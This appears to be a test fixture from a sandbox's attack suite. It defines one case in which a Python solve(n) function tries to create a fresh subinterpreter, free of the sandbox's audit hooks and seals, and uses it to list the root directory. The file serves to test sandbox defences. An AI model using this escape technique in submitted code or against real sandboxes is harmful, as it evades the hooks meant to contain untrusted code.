import type { Attack } from '../../attack.ts';

export const attack: Attack = {
  title: 'starts an interpreter of its own, which would have neither seal nor hook',
  language: 'python',
  code: `
def solve(n):
    for name in ("concurrent.interpreters", "_interpreters", "_xxsubinterpreters"):
        try:
            made = __import__(name, fromlist=["create"]).create()
        except ImportError:
            continue
        made.exec("import os; print(os.listdir('/'))")
        return -1
    return n * 2
`,
  verdict: 'accepted',
};
